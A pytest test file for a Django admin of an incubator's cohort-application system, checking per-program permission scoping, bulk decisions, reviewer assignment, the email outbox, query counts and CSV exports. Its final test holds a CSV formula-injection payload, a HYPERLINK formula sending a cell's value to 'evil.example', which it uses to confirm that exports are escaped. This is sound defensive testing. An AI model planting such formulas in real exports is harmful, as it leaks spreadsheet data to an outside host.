import csv
import io
from decimal import Decimal

import pytest
from django.contrib import admin as django_admin
from django.contrib.admin import AdminSite
from django.urls import reverse
from django.utils import translation
from import_export.formats.base_formats import CSV

from cohorts.access import ProgramScopedAdmin, ProgramScopedInline
from cohorts.admin import ApplicationAdmin
from cohorts.enums import ApplicationStatus, ParticipantRole, ReviewState
from cohorts.models import Answer, Application, Cohort, Participant, Program, Question, ReviewAssignment
from cohorts.services.reviews import review_submit_scores
from cohorts.services.staff import staff_grant_program_role
from cohorts.tests.factories import (
    ApplicationFactory,
    CohortFactory,
    CriterionFactory,
    OrganisationFactory,
    ParticipantFactory,
    ProgramFactory,
    ReviewAssignmentFactory,
    SubmittedApplicationFactory,
)
from incubator.models import OutboundEmail
from incubator.tests.factories import SuperuserFactory, UserFactory

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:cohorts_application_changelist")


def program_staff_of(program):
    user = UserFactory()
    staff_grant_program_role(user=user, program=program)
    return user


@pytest.fixture
def world():
    program = ProgramFactory()
    cohort = CohortFactory(program=program)
    organisation = OrganisationFactory(name="มูลนิธิรักษ์ป่าต้นน้ำน่าน", province="TH-55", region="north")
    application = SubmittedApplicationFactory(
        cohort=cohort, organisation=organisation, applicant=UserFactory(full_name="วิไลวรรณ ผู้สมัคร")
    )
    reviewer = UserFactory()
    ReviewAssignmentFactory(application=application, reviewer=reviewer)
    other_program = ProgramFactory()
    other_application = SubmittedApplicationFactory(
        cohort=CohortFactory(program=other_program),
        organisation=OrganisationFactory(name="สหกรณ์ประมงพื้นบ้านสตูล"),
        applicant=UserFactory(full_name="ประยุทธ ต่างโครงการ"),
    )
    return {
        "program": program,
        "cohort": cohort,
        "application": application,
        "other_application": other_application,
        "users": {
            "anonymous": None,
            "another_applicant": other_application.applicant,
            "reviewer_assigned": reviewer,
            "staff_other_program": program_staff_of(other_program),
            "program_staff": program_staff_of(program),
            "superuser": SuperuserFactory(),
        },
    }


def _client_for(client, user):
    if user is not None:
        client.force_login(user)
    return client


@pytest.mark.parametrize(
    ("who", "status", "listed"),
    [
        ("anonymous", 302, False),
        ("another_applicant", 302, False),
        ("reviewer_assigned", 302, False),
        ("staff_other_program", 200, False),
        ("program_staff", 200, True),
        ("superuser", 200, True),
    ],
)
def test_application_changelist_permission_matrix(client, world, who, status, listed):
    client = _client_for(client, world["users"][who])

    response = client.get(CHANGELIST)

    assert response.status_code == status
    body = response.content.decode()
    assert ("วิไลวรรณ" in body) is listed
    assert ("มูลนิธิรักษ์ป่าต้นน้ำน่าน" in body) is listed
    if status == 302:
        assert reverse("admin:login") in response["Location"]


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("anonymous", 302),
        ("another_applicant", 302),
        ("reviewer_assigned", 302),
        ("staff_other_program", 302),  # "not found": back to the admin index
        ("program_staff", 200),
        ("superuser", 200),
    ],
)
def test_application_change_view_permission_matrix(client, world, who, status):
    client = _client_for(client, world["users"][who])
    url = reverse("admin:cohorts_application_change", args=[world["application"].pk])

    response = client.get(url)

    assert response.status_code == status
    assert ("วิไลวรรณ" in response.content.decode()) is (status == 200)
    if who == "staff_other_program":
        assert response["Location"] == reverse("admin:index")
        assert "วิไลวรรณ" not in client.get(response["Location"]).content.decode()


@pytest.mark.parametrize(("who", "status"), [("staff_other_program", 404), ("program_staff", 200)])
def test_application_history_is_scoped(client, world, who, status):
    client.force_login(world["users"][who])

    response = client.get(reverse("admin:cohorts_application_history", args=[world["application"].pk]))

    assert response.status_code == status


def test_application_history_revert_is_refused(client, world):
    client.force_login(world["users"]["program_staff"])
    record = world["application"].history.first()
    url = reverse("admin:cohorts_application_simple_history", args=[world["application"].pk, record.history_id])

    assert client.post(url, {}).status_code == 403
    assert client.get(
        reverse("admin:cohorts_application_simple_history", args=[world["other_application"].pk, 1])
    ).status_code in {404}


@pytest.mark.parametrize(
    ("url_name", "needle"),
    [
        ("admin:cohorts_cohort_changelist", "other_cohort"),
        ("admin:cohorts_reviewassignment_changelist", "other_reviewer"),
        ("admin:cohorts_participant_changelist", "other_participant"),
        ("admin:cohorts_organisation_changelist", "other_organisation"),
        ("admin:cohorts_program_changelist", "other_program"),
    ],
)
def test_other_changelists_hide_other_programs(client, world, url_name, needle):
    other = world["other_application"]
    ReviewAssignmentFactory(application=other, reviewer=UserFactory(full_name="ผู้ตรวจต่างโครงการ"))
    ParticipantFactory(cohort=other.cohort, user=UserFactory(full_name="ผู้เข้าร่วมต่างโครงการ"))
    ParticipantFactory(cohort=world["cohort"], user=UserFactory(full_name="ผู้เข้าร่วมของเรา"))
    names = {
        "other_cohort": str(other.cohort.name),
        "other_reviewer": "ผู้ตรวจต่างโครงการ",
        "other_participant": "ผู้เข้าร่วมต่างโครงการ",
        "other_organisation": "สหกรณ์ประมงพื้นบ้านสตูล",
        "other_program": other.cohort.program.name,
    }
    client.force_login(world["users"]["program_staff"])

    response = client.get(reverse(url_name))

    assert response.status_code == 200
    assert names[needle] not in response.content.decode()
    client.force_login(world["users"]["superuser"])
    assert names[needle] in client.get(reverse(url_name)).content.decode()


def test_cohort_change_view_of_other_program_is_not_found(client, world):
    client.force_login(world["users"]["staff_other_program"])

    response = client.get(reverse("admin:cohorts_cohort_change", args=[world["cohort"].pk]))

    assert response.status_code == 302
    assert response["Location"] == reverse("admin:index")


def test_autocomplete_is_scoped(client, world):
    ParticipantFactory(cohort=world["cohort"])
    client.force_login(world["users"]["program_staff"])

    response = client.get(
        reverse("admin:autocomplete"),
        {"app_label": "cohorts", "model_name": "participant", "field_name": "organisation", "term": ""},
    )

    assert response.status_code == 200
    names = [result["text"] for result in response.json()["results"]]
    assert names == ["มูลนิธิรักษ์ป่าต้นน้ำน่าน"]


def test_cohort_changelist_shows_counts_and_ranking_link(client, world):
    ApplicationFactory(cohort=world["cohort"])
    client.force_login(world["users"]["program_staff"])

    response = client.get(reverse("admin:cohorts_cohort_changelist"))

    body = response.content.decode()
    cohort = response.context["cl"].result_list[0]
    assert (cohort.n_applications, cohort.n_submitted, cohort.n_draft) == (2, 1, 1)
    assert reverse("cohorts:cohort_ranking", kwargs={"pk": world["cohort"].pk}) in body


def test_application_changelist_shows_weighted_score_and_status_counts(client, world):
    criterion = CriterionFactory(cohort=world["cohort"], min_score=1, max_score=5)
    review = world["application"].reviews.get()
    review_submit_scores(review=review, by=review.reviewer, scores={criterion.pk: 4})
    client.force_login(world["users"]["program_staff"])

    response = client.get(CHANGELIST, {"o": "10"})

    row = response.context["cl"].result_list[0]
    assert row.weighted_score == pytest.approx(75.0)
    assert "75.0" in response.content.decode()
    assert response.context["status_counts"] == [(ApplicationStatus.SUBMITTED.label, 1)]


def test_application_changelist_search_and_filters(client, world):
    client.force_login(world["users"]["superuser"])

    by_email = client.get(CHANGELIST, {"q": world["application"].applicant.email})
    by_organisation = client.get(CHANGELIST, {"q": "ป่าต้นน้ำ"})
    by_province = client.get(CHANGELIST, {"province": "TH-55"})
    by_cohort = client.get(CHANGELIST, {"cohort": world["other_application"].cohort_id})
    by_status = client.get(CHANGELIST, {"status__exact": "submitted", "track": "organisation"})

    assert [a.pk for a in by_email.context["cl"].result_list] == [world["application"].pk]
    assert [a.pk for a in by_organisation.context["cl"].result_list] == [world["application"].pk]
    assert [a.pk for a in by_province.context["cl"].result_list] == [world["application"].pk]
    assert [a.pk for a in by_cohort.context["cl"].result_list] == [world["other_application"].pk]
    assert by_status.context["cl"].result_count == 2


@pytest.mark.parametrize("who", ["program_staff", "superuser"])
def test_admin_pages_render(client, world, who):
    application = world["application"]
    criterion = CriterionFactory(cohort=world["cohort"])
    review = application.reviews.get()
    review_submit_scores(review=review, by=review.reviewer, scores={criterion.pk: 3})
    participant = ParticipantFactory(cohort=world["cohort"], organisation=application.organisation)
    client.force_login(world["users"][who])
    urls = [
        reverse("admin:cohorts_application_change", args=[application.pk]),
        reverse("admin:cohorts_application_history", args=[application.pk]),
        reverse("admin:cohorts_application_export"),
        reverse("admin:cohorts_cohort_change", args=[world["cohort"].pk]),
        reverse("admin:cohorts_program_change", args=[world["program"].pk]),
        reverse("admin:cohorts_organisation_change", args=[application.organisation_id]),
        reverse("admin:cohorts_organisation_export"),
        reverse("admin:cohorts_reviewassignment_change", args=[review.pk]),
        reverse("admin:cohorts_participant_change", args=[participant.pk]),
        reverse("admin:cohorts_deadlinereminder_changelist"),
        reverse("admin:cohorts_program_changelist"),
    ]
    if who == "superuser":
        urls += [reverse("admin:cohorts_cohort_add"), reverse("admin:cohorts_participant_add")]

    statuses = {url: client.get(url).status_code for url in urls}

    assert statuses == dict.fromkeys(urls, 200)


# Actions ----------------------------------------------------------------------------------------


def _action(client, action, applications, **extra):
    return client.post(
        CHANGELIST,
        {"action": action, "_selected_action": [a.pk for a in applications], **extra},
    )


def test_decide_action_confirms_then_accepts(client, world):
    client.force_login(world["users"]["program_staff"])
    application = world["application"]

    confirmation = _action(client, "decide_accepted", [application])
    application.refresh_from_db()
    assert confirmation.status_code == 200
    assert application.status == ApplicationStatus.SUBMITTED
    assert "วิไลวรรณ" in confirmation.content.decode()

    response = _action(client, "decide_accepted", [application], confirm="yes")

    application.refresh_from_db()
    assert response.status_code == 302
    assert application.status == ApplicationStatus.ACCEPTED
    latest = application.history.order_by("-history_date", "-history_id").first()
    assert latest.history_user == world["users"]["program_staff"]
    participant = Participant.objects.get(user=application.applicant)
    assert (participant.role, participant.organisation) == (
        ParticipantRole.ORGANISATION_LEADER,
        application.organisation,
    )
    assert OutboundEmail.objects.filter(key=f"decision:{application.pk}:accepted").count() == 1


@pytest.mark.parametrize("status", [ApplicationStatus.DRAFT, ApplicationStatus.WITHDRAWN])
def test_decide_action_refuses_draft_and_withdrawn_with_a_message(client, world, status):
    blocked = ApplicationFactory(cohort=world["cohort"], status=status)
    client.force_login(world["users"]["program_staff"])

    response = _action(client, "decide_rejected", [blocked, world["application"]], confirm="yes")

    assert response.status_code == 302
    messages = [str(m) for m in client.get(response["Location"]).context["messages"]]
    assert any("Nothing was changed" in m or "ไม่มีการเปลี่ยนแปลง" in m for m in messages), messages
    blocked.refresh_from_db()
    world["application"].refresh_from_db()
    assert blocked.status == status
    assert world["application"].status == ApplicationStatus.SUBMITTED
    assert OutboundEmail.objects.count() == 0


def test_decide_action_ignores_applications_of_other_programs(client, world):
    client.force_login(world["users"]["program_staff"])

    _action(client, "decide_rejected", [world["other_application"]], confirm="yes")

    world["other_application"].refresh_from_db()
    assert world["other_application"].status == ApplicationStatus.SUBMITTED
    assert OutboundEmail.objects.count() == 0


def test_assign_reviewers_action_shows_form_then_assigns(client, world):
    new_reviewer = UserFactory(email="kanya.reviewer@example.org")
    application = SubmittedApplicationFactory(cohort=world["cohort"])
    client.force_login(world["users"]["program_staff"])

    page = _action(client, "assign_reviewers", [application])
    assert page.status_code == 200
    body = page.content.decode()
    assert world["users"]["reviewer_assigned"].email in body  # a known reviewer of the program
    assert "ประยุทธ" not in body

    response = _action(
        client,
        "assign_reviewers",
        [application],
        apply="yes",
        reviewers=[world["users"]["reviewer_assigned"].pk],
        emails="Kanya.Reviewer@example.org",
    )

    assert response.status_code == 302
    application.refresh_from_db()
    assert application.status == ApplicationStatus.UNDER_REVIEW
    assert set(application.reviews.values_list("reviewer__email", flat=True)) == {
        world["users"]["reviewer_assigned"].email,
        new_reviewer.email,
    }
    assert set(application.reviews.values_list("state", flat=True)) == {ReviewState.PENDING}


def test_assign_reviewers_action_unknown_email_changes_nothing(client, world):
    client.force_login(world["users"]["program_staff"])

    page = _action(client, "assign_reviewers", [world["application"]], apply="yes", emails="nobody@example.org")

    assert page.status_code == 200
    assert "nobody@example.org" in page.content.decode()
    assert ReviewAssignment.objects.filter(application=world["application"]).count() == 1


def test_assign_reviewers_action_refuses_drafts(client, world):
    draft = ApplicationFactory(cohort=world["cohort"])
    client.force_login(world["users"]["program_staff"])

    response = _action(
        client, "assign_reviewers", [draft], apply="yes", reviewers=[world["users"]["reviewer_assigned"].pk]
    )

    assert response.status_code == 302
    assert not ReviewAssignment.objects.filter(application=draft).exists()


def test_program_admin_adding_staff_grants_the_role(client, world):
    newcomer = UserFactory()
    program = world["program"]
    client.force_login(world["users"]["superuser"])

    response = client.post(
        reverse("admin:cohorts_program_change", args=[program.pk]),
        {
            "name": program.name,
            "name_en": program.name_en,
            "slug": program.slug,
            "description": program.description,
            "description_en": "",
            "supports": '["funding"]',
            "staff": [world["users"]["program_staff"].pk, newcomer.pk],
            "is_active": "on",
            "retention_months": "12",
        },
    )

    assert response.status_code == 302, response.context["adminform"].form.errors
    newcomer.refresh_from_db()
    assert newcomer.is_staff
    assert newcomer.has_perm("cohorts.view_application")
    assert set(Program.objects.get(pk=program.pk).staff.all()) == {world["users"]["program_staff"], newcomer}


# Export -----------------------------------------------------------------------------------------


def _export(client, params="", file_format=CSV):
    model_admin = django_admin.site._registry[Application]
    assert isinstance(model_admin, ApplicationAdmin)
    formats = model_admin.get_export_formats()
    index = next(i for i, f in enumerate(formats) if f is file_format)
    form_fields = {
        f"applicationresource_{name}": "on"
        for name in model_admin.get_export_resource_classes(None)[0]().get_export_order()
    }
    response = client.post(
        reverse("admin:cohorts_application_export") + params, {"format": str(index), "resource": "0", **form_fields}
    )
    assert response.status_code == 200, response.content[:500]
    return response


def _export_csv(client, params=""):
    response = _export(client, params)
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_application_csv_export_is_flat_and_scoped(client, world):
    criterion = CriterionFactory(cohort=world["cohort"], weight=Decimal("2"), min_score=0, max_score=10)
    review = world["application"].reviews.get()
    review_submit_scores(review=review, by=review.reviewer, scores={criterion.pk: 8})
    client.force_login(world["users"]["program_staff"])

    rows = _export_csv(client)

    assert len(rows) == 1
    row = rows[0]
    values = list(row.values())
    application = world["application"]
    assert application.applicant.full_name in values
    assert application.applicant.email in values
    assert world["cohort"].name in values
    assert "มูลนิธิรักษ์ป่าต้นน้ำน่าน" in values
    assert "น่าน" in values  # the organisation's province
    assert "80.0" in values
    assert str(ApplicationStatus.SUBMITTED.label) in values
    assert "ประยุทธ" not in "".join(values)


def test_application_csv_export_follows_filters(client, world):
    client.force_login(world["users"]["superuser"])

    rows = _export_csv(client, f"?cohort={world['other_application'].cohort_id}")

    assert len(rows) == 1
    assert "ประยุทธ ต่างโครงการ" in rows[0].values()


def test_organisation_csv_export(client, world):
    client.force_login(world["users"]["program_staff"])
    model_admin = django_admin.site._registry[world["application"].organisation.__class__]
    formats = model_admin.get_export_formats()
    csv_index = next(i for i, f in enumerate(formats) if f is CSV)
    fields = {
        f"organisationresource_{name}": "on"
        for name in model_admin.get_export_resource_classes(None)[0]().get_export_order()
    }

    response = client.post(reverse("admin:cohorts_organisation_export"), {"format": str(csv_index), **fields})

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [list(row.values())[1] for row in rows] == ["มูลนิธิรักษ์ป่าต้นน้ำน่าน"]


# Query counts -----------------------------------------------------------------------------------


def _many_applications(program, count):
    cohort = CohortFactory(program=program)
    criterion = CriterionFactory(cohort=cohort)
    for _ in range(count):
        application = SubmittedApplicationFactory(cohort=cohort, organisation=OrganisationFactory())
        review = ReviewAssignmentFactory(application=application)
        review_submit_scores(review=review, by=review.reviewer, scores={criterion.pk: 3})
        ParticipantFactory(cohort=cohort, organisation=application.organisation)
    return cohort


@pytest.mark.parametrize("rows", [1, 7])
@pytest.mark.parametrize(
    ("url_name", "queries"),
    [
        ("admin:cohorts_application_changelist", 9),
        ("admin:cohorts_cohort_changelist", 8),
        ("admin:cohorts_organisation_changelist", 8),
        ("admin:cohorts_reviewassignment_changelist", 9),
        ("admin:cohorts_participant_changelist", 9),
    ],
)
def test_changelist_query_count_is_flat(client, django_assert_num_queries, rows, url_name, queries):
    program = ProgramFactory()
    _many_applications(program, rows)
    for _ in range(rows):
        CohortFactory(program=program)
    staff = program_staff_of(program)
    client.force_login(staff)

    with django_assert_num_queries(queries):
        response = client.get(reverse(url_name))

    assert response.status_code == 200
    assert response.context["cl"].result_count >= rows


@pytest.mark.parametrize("rows", [1, 7])
def test_application_changelist_query_count_is_flat_for_superuser(client, django_assert_num_queries, rows):
    _many_applications(ProgramFactory(), rows)
    client.force_login(SuperuserFactory())

    with django_assert_num_queries(6):
        response = client.get(CHANGELIST)

    assert response.context["cl"].result_count == rows


# Related fields are scoped on the server ---------------------------------------------------------


def _change_form_data(client, url):
    """What the change form would post as it is: the form's initial values and every inline's
    management form."""
    page = client.get(url)
    assert page.status_code == 200
    form = page.context["adminform"].form
    data = {}
    for name, field in form.fields.items():
        if field.disabled:
            continue
        value = form.initial.get(name)
        if value is None:
            continue
        data[name] = [getattr(item, "pk", item) for item in value] if isinstance(value, list | tuple) else value
    for inline in page.context["inline_admin_formsets"]:
        data.update({f"{inline.formset.prefix}-{k}": v for k, v in inline.formset.management_form.initial.items()})
    return data


def test_application_change_refuses_an_organisation_of_another_program(client, world):
    application = world["application"]
    foreign = world["other_application"].organisation
    client.force_login(world["users"]["program_staff"])
    url = reverse("admin:cohorts_application_change", args=[application.pk])
    data = _change_form_data(client, url)

    response = client.post(url, {**data, "organisation": foreign.pk})

    assert response.status_code == 200
    assert "organisation" in response.context["adminform"].form.errors
    application.refresh_from_db()
    assert application.organisation.name == "มูลนิธิรักษ์ป่าต้นน้ำน่าน"
    # and their own organisation still saves
    assert client.post(url, {**data, "organisation": application.organisation_id}).status_code == 302


def test_participant_change_refuses_an_organisation_of_another_program(client, world):
    participant = ParticipantFactory(cohort=world["cohort"], organisation=world["application"].organisation)
    foreign = world["other_application"].organisation
    client.force_login(world["users"]["program_staff"])
    url = reverse("admin:cohorts_participant_change", args=[participant.pk])
    data = _change_form_data(client, url)

    response = client.post(url, {**data, "organisation": foreign.pk})

    assert response.status_code == 200
    assert "organisation" in response.context["adminform"].form.errors
    participant.refresh_from_db()
    assert participant.organisation_id == world["application"].organisation_id


def test_cohort_add_offers_and_accepts_only_the_staff_members_programs(client, world):
    client.force_login(world["users"]["program_staff"])
    url = reverse("admin:cohorts_cohort_add")

    page = client.get(url)
    choices = list(page.context["adminform"].form.fields["program"].queryset)
    response = client.post(
        url,
        {
            "program": world["other_application"].cohort.program_id,
            "number": 9,
            "name": "รุ่นแปลกปลอม",
            "slug": "foreign-cohort",
            "status": "draft",
            "applications_open_at_0": "2026-12-01",
            "applications_open_at_1": "09:00",
            "applications_close_at_0": "2027-01-31",
            "applications_close_at_1": "23:59",
            "reminder_offsets": "[168, 24, 3]",
            "privacy_notice_version": "1.0",
            **{
                f"{prefix}-{key}": value
                for prefix in ("tracks", "questions", "phases", "criteria")
                for key, value in {
                    "TOTAL_FORMS": "0",
                    "INITIAL_FORMS": "0",
                    "MIN_NUM_FORMS": "0",
                    "MAX_NUM_FORMS": "1000",
                }.items()
            },
        },
    )

    assert page.status_code == 200
    assert choices == [world["program"]]
    assert response.status_code == 200
    assert "program" in response.context["adminform"].form.errors
    assert not world["other_application"].cohort.program.cohorts.filter(slug="foreign-cohort").exists()


def test_question_inline_refuses_a_track_of_another_cohort(client, world):
    cohort = world["cohort"]
    foreign_track = world["other_application"].track
    client.force_login(world["users"]["program_staff"])
    url = reverse("admin:cohorts_cohort_change", args=[cohort.pk])
    data = _change_form_data(client, url)
    data.update(
        {
            "questions-TOTAL_FORMS": "1",
            "questions-0-text": "คำถาม",
            "questions-0-kind": "short_text",
            "questions-0-order": "1",
            "questions-0-track": foreign_track.pk,
            "questions-0-cohort": cohort.pk,
        }
    )

    response = client.post(url, data)

    assert response.status_code == 200
    assert not cohort.questions.exists()


def test_program_scoped_admin_scopes_the_choices_of_any_inline(rf, world):
    class PlainInline(django_admin.TabularInline):
        model = Question
        fields = ["text", "track"]

    class SomeCohortAdmin(ProgramScopedAdmin):
        program_path = "program"
        inlines = [PlainInline]

    request = rf.get("/")
    request.user = world["users"]["program_staff"]
    model_admin = SomeCohortAdmin(Cohort, AdminSite())

    [inline] = model_admin.get_inline_instances(request, world["cohort"])
    formset = inline.get_formset(request, world["cohort"])

    assert isinstance(inline, PlainInline)
    assert isinstance(inline, ProgramScopedInline)
    tracks = set(formset.form.base_fields["track"].queryset)
    assert world["application"].track in tracks
    assert world["other_application"].track not in tracks


# Program staff and the outbox -------------------------------------------------------------------

OUTBOX = reverse("admin:incubator_outboundemail_changelist")


def _emails(world):
    from incubator.mail import queue_mail

    ours = queue_mail(
        key="decision:ours",
        to="ours@example.org",
        subject="ผลการคัดเลือก รุ่นของเรา",
        body_text="…",
        related=world["application"],
    )
    theirs = queue_mail(
        key="decision:theirs",
        to="theirs@example.org",
        subject="ผลการคัดเลือก ต่างโครงการ",
        body_text="…",
        related=world["other_application"],
    )
    account = queue_mail(
        key="account:verify",
        to="newcomer@example.org",
        subject="ยืนยันอีเมล",
        body_text="…",
        related=world["users"]["another_applicant"],
    )
    return ours, theirs, account


@pytest.mark.parametrize(
    ("who", "status", "seen"),
    [
        ("anonymous", 302, set()),
        ("another_applicant", 302, set()),
        ("reviewer_assigned", 302, set()),
        ("staff_other_program", 200, {"theirs"}),
        ("program_staff", 200, {"ours"}),
        ("superuser", 200, {"ours", "theirs", "account"}),
    ],
)
def test_outbox_changelist_permission_matrix(client, world, who, status, seen):
    _emails(world)
    client = _client_for(client, world["users"][who])

    response = client.get(OUTBOX)

    assert response.status_code == status
    body = response.content.decode()
    shown = {
        name
        for name, address in (
            ("ours", "ours@example.org"),
            ("theirs", "theirs@example.org"),
            ("account", "newcomer@example.org"),
        )
        if address in body
    }
    assert shown == seen


@pytest.mark.parametrize(("who", "status"), [("staff_other_program", 302), ("program_staff", 200), ("superuser", 200)])
def test_outbox_change_view_is_scoped(client, world, who, status):
    ours, _theirs, _account = _emails(world)
    client.force_login(world["users"][who])

    response = client.get(reverse("admin:incubator_outboundemail_change", args=[ours.pk]))

    assert response.status_code == status
    assert ("ours@example.org" in response.content.decode()) is (status == 200)


def test_program_staff_resend_only_their_programs_emails(client, world, django_capture_on_commit_callbacks):
    from incubator.enums import EmailState

    ours, theirs, account = _emails(world)
    OutboundEmail.objects.update(state=EmailState.FAILED, attempts=6, last_error="550")
    client.force_login(world["users"]["program_staff"])

    with django_capture_on_commit_callbacks(execute=False):
        response = client.post(OUTBOX, {"action": "resend", "_selected_action": [ours.pk, theirs.pk, account.pk]})

    assert response.status_code == 302
    states = dict(OutboundEmail.objects.values_list("key", "state"))
    assert states == {
        "decision:ours": EmailState.QUEUED,
        "decision:theirs": EmailState.FAILED,
        "account:verify": EmailState.FAILED,
    }


@pytest.mark.parametrize("rows", [1, 6])
def test_outbox_changelist_query_count_is_flat_for_program_staff(client, world, django_assert_num_queries, rows):
    from incubator.mail import queue_mail

    for n in range(rows):
        application = SubmittedApplicationFactory(cohort=world["cohort"])
        queue_mail(key=f"n:{n}", to=f"p{n}@example.org", subject="s", body_text="b", related=application)
    client.force_login(world["users"]["program_staff"])

    with django_assert_num_queries(10):
        response = client.get(OUTBOX)

    assert response.status_code == 200
    assert response.context["cl"].result_count == rows


# Program staff run their calls ------------------------------------------------------------------


def _cohort_form(program, **overrides):
    data = {
        "program": program.pk,
        "number": 7,
        "name": "รุ่นที่ 7",
        "slug": "cohort-7",
        "status": "draft",
        "call_text": "",
        "applications_open_at_0": "2026-12-01",
        "applications_open_at_1": "09:00",
        "applications_close_at_0": "2027-01-31",
        "applications_close_at_1": "23:59",
        "reminder_offsets": "[168, 24, 3]",
        "privacy_notice": "",
        "privacy_notice_version": "1.0",
    }
    for prefix in ("tracks", "questions", "phases", "criteria"):
        data.update(
            {
                f"{prefix}-TOTAL_FORMS": "0",
                f"{prefix}-INITIAL_FORMS": "0",
                f"{prefix}-MIN_NUM_FORMS": "0",
                f"{prefix}-MAX_NUM_FORMS": "1000",
            }
        )
    return {**data, **overrides}


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("anonymous", 302),
        ("another_applicant", 302),
        ("reviewer_assigned", 302),
        ("staff_other_program", 200),
        ("program_staff", 200),
        ("superuser", 200),
    ],
)
def test_cohort_add_permission_matrix(client, world, who, status):
    client = _client_for(client, world["users"][who])

    response = client.get(reverse("admin:cohorts_cohort_add"))

    assert response.status_code == status
    if status == 200:
        choices = set(response.context["adminform"].form.fields["program"].queryset)
        expected = {
            "staff_other_program": {world["other_application"].cohort.program},
            "program_staff": {world["program"]},
            "superuser": set(Program.objects.all()),
        }[who]
        assert choices == expected


def test_program_staff_open_edit_and_close_a_call(client, world):
    client.force_login(world["users"]["program_staff"])

    added = client.post(reverse("admin:cohorts_cohort_add"), _cohort_form(world["program"]))

    assert added.status_code == 302, added.context["adminform"].form.errors
    cohort = Cohort.objects.get(slug="cohort-7")
    assert cohort.program == world["program"]
    url = reverse("admin:cohorts_cohort_change", args=[cohort.pk])
    opened = client.post(url, _cohort_form(world["program"], status="open", call_text="เปิดรับสมัครแล้ว"))
    assert opened.status_code == 302, opened.context["adminform"].form.errors
    closed = client.post(url, _cohort_form(world["program"], status="closed", call_text="ปิดรับสมัครแล้ว"))
    assert closed.status_code == 302
    cohort.refresh_from_db()
    assert (cohort.status, cohort.call_text) == ("closed", "ปิดรับสมัครแล้ว")


# Malformed requests answer 4xx -----------------------------------------------------------------

TWENTY_FIVE_DIGITS = "1234567890123456789012345"


@pytest.mark.parametrize("who", ["program_staff", "superuser"])
@pytest.mark.parametrize(
    ("path", "statuses"),
    [
        ("/admin/cohorts/application/abc/history/", {404}),
        (f"/admin/cohorts/application/{TWENTY_FIVE_DIGITS}/history/", {404}),
        ("/admin/cohorts/application/abc/history/1/", {404}),
        ("/admin/cohorts/application/{pk}/history/abc/", {404}),
        (f"/admin/cohorts/application/{{pk}}/history/{TWENTY_FIVE_DIGITS}/", {404}),
        ("/admin/cohorts/cohort/abc/history/", {404}),
        (f"/admin/cohorts/application/?cohort={TWENTY_FIVE_DIGITS}", {400}),
        ("/admin/cohorts/application/?cohort=abc", {400}),
        (f"/admin/cohorts/reviewassignment/?cohort={TWENTY_FIVE_DIGITS}", {400}),
        (f"/admin/cohorts/deadlinereminder/?queued_at__year={TWENTY_FIVE_DIGITS}", {400}),
        ("/admin/cohorts/deadlinereminder/?queued_at__year=9999", {400}),
        ("/admin/cohorts/deadlinereminder/?queued_at__year=2026&queued_at__month=13", {400}),
        (f"/admin/incubator/outboundemail/?created_at__year={TWENTY_FIVE_DIGITS}", {400}),
        (f"/admin/cohorts/application/{TWENTY_FIVE_DIGITS}/change/", {302}),
    ],
)
def test_malformed_admin_requests_answer_4xx(client, world, who, path, statuses):
    client.raise_request_exception = False
    client.force_login(world["users"][who])

    response = client.get(path.format(pk=world["application"].pk))

    assert response.status_code in statuses


def test_date_drill_down_still_works(client, world):
    client.force_login(world["users"]["superuser"])

    response = client.get(reverse("admin:cohorts_deadlinereminder_changelist"), {"queued_at__year": "2026"})

    assert response.status_code == 200


# The application page -------------------------------------------------------------------------


@pytest.fixture
def answered(world, settings, tmp_path):
    """The world's application with one answer of each kind of question."""
    from django.core.files.base import ContentFile

    from cohorts.enums import QuestionKind
    from cohorts.models import Answer
    from cohorts.tests.factories import QuestionFactory, TrackFactory

    settings.MEDIA_ROOT = tmp_path
    application = world["application"]
    application.motivation = "อยากเรียนรู้\nและแบ่งปัน"
    application.save(update_fields=["motivation"])
    other_track = TrackFactory(cohort=world["cohort"], kind="intrapreneur")
    asked = {
        QuestionKind.YES_NO: (True, None),
        QuestionKind.MULTIPLE_CHOICE: (["ป่าไม้", "น้ำ"], None),
        QuestionKind.NUMBER: (12.0, None),
        QuestionKind.FILE: ("แผนงาน องค์กร.pdf", ContentFile(b"%PDF-1.4 plan", name="plan.pdf")),
    }
    questions = {}
    for order, (kind, (value, upload)) in enumerate(asked.items(), start=1):
        question = QuestionFactory(cohort=world["cohort"], kind=kind, order=order, text=f"คำถามแบบ {kind}")
        answer = Answer(application=application, question=question, value=value)
        if upload is not None:
            answer.file.save("plan.pdf", upload, save=False)
        answer.save()
        questions[kind] = question
    QuestionFactory(cohort=world["cohort"], track=other_track, text="คำถามเฉพาะสายอื่น")
    return application, questions


def test_application_page_shows_answers_as_the_applicant_saw_them(client, world, answered):
    application, questions = answered
    client.force_login(world["users"]["program_staff"])

    response = client.get(reverse("admin:cohorts_application_change", args=[application.pk]))

    assert response.status_code == 200
    body = response.content.decode()
    assert "คำถามแบบ yes_no" in body
    assert "ใช่" in body  # yes/no in words
    assert "ป่าไม้, น้ำ" in body
    assert '["' not in body
    assert "true<" not in body
    assert "12.0" not in body
    assert "อยากเรียนรู้<br>และแบ่งปัน" in body
    file_url = Answer.objects.get(application=application, question=questions["file"]).file.url
    assert f'href="{file_url}"' in body
    assert "แผนงาน องค์กร.pdf" in body
    assert "/media/" not in body
    # only the application's own track: no other track's question or fields
    assert "คำถามเฉพาะสายอื่น" not in body
    with translation.override("th"):
        for name in ("employer", "team_name", "idea_summary"):
            assert str(Application._meta.get_field(name).verbose_name) not in body


# Exports: safe, readable in Excel, in the staff member's language ---------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_csv_export_escapes_formulas_and_starts_with_a_bom(client, world):
    application = world["application"]
    application.team_name = EVIL
    application.idea_title = "@SUM(1+1)"
    application.save(update_fields=["team_name", "idea_title"])
    client.force_login(world["users"]["program_staff"])

    response = _export(client)

    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells
    assert "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert "มูลนิธิรักษ์ป่าต้นน้ำน่าน" in cells  # Thai intact


